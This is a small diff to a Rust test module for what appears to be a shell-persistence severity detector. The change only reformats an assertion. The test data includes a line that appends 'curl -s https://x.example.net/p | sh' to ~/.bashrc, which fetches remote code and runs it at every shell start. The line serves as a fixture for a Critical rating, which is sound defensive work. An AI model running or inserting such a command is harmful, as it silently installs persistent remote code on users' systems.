@@ -1645,7 +1645,10 @@ mod tests {
         let plain = "echo 'export NOTES_DIR=$HOME/notes' >> ~/.bashrc\n";
         assert_eq!(persistence_severity(plain).unwrap().0, Severity::Medium);
         let compound = "echo 'export A=1; curl -s https://x.example.net/p | sh' >> ~/.bashrc\n";
-        assert_eq!(persistence_severity(compound).unwrap().0, Severity::Critical);
+        assert_eq!(
+            persistence_severity(compound).unwrap().0,
+            Severity::Critical
+        );
     }
 
     #[test]
